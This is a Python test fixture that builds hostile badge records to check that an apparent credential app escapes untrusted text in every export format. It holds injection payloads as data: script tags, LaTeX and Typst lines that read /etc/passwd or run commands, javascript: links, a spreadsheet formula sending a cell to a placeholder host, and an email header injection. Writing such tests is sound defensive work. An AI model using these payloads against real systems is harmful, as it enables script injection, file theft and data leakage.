"""Badges that mean harm, for every way out: text that some format or reader would obey."""

from backpack.domain.credential import Alignment, Criteria, Evidence, Profile
from tests.publish.disclosed import make_disclosed, make_disclosed_badge

OVERRIDE = "\u202e"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
TYPST = '#eval("1+1") #read("/etc/passwd") $x$ <label> @ref "); #panic("out") ("'
LATEX = r"\input{/etc/passwd} \write18{id} ^^5c $x$ %off & # _ { } ~ \end{document}"
MARKDOWN = (
    "](javascript:alert(1)) **x** `y` ![p](http://t.example/p.png) https://t.example www.t.example"
)
FORMULA = '=HYPERLINK("http://t.example?x="&A1,"open")'
CONTROLS = f"a\x00b\x07c\x1b[31md{OVERRIDE}e\ud800f\ufffeg\u2066h"
LONG = "N" * 10_000
HEADER = "x\r\nBcc: everybody@t.example\r\n\r\nbody"
PILED = "Z" + "\u0300" * 500

TEXTS = (
    SCRIPT,
    TYPST,
    LATEX,
    MARKDOWN,
    FORMULA,
    CONTROLS,
    LONG,
    HEADER,
    PILED,
    "",
    "   ",
    "🎉 ก็ 漢字",
)

LINKS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    'https://t.example/"onmouseover="alert(1)',
    "https://t.example/a)[x](javascript:alert(1))",
    "https://t.example/#%{}\\~^_&$",
    "https://user\u202e@t.example/",
    "\x00https://t.example/",
)


def hostile_badge(number, text, link):
    """A badge that says ``text`` and leads to ``link`` wherever it can."""
    return make_disclosed_badge(
        number,
        name=text,
        address=link,
        description=text,
        criteria=Criteria(narrative=text, url=link),
        tags=(text,),
        alignments=(Alignment(name=text, url=link, framework=text, code=text),),
        evidence=(Evidence(name=text, url=link, description=text, narrative=text),),
        issuer=Profile(id=link, name=text, url=link),
        narrative=text,
        notes=text,
    )


def hostile_badges():
    """Each of the texts, with each of the links somewhere."""
    return [
        hostile_badge(number, text, LINKS[number % len(LINKS)]) for number, text in enumerate(TEXTS)
    ]


def hostile_disclosed(most=None):
    return make_disclosed(*hostile_badges()[:most], learner_name=SCRIPT + CONTROLS + TYPST)
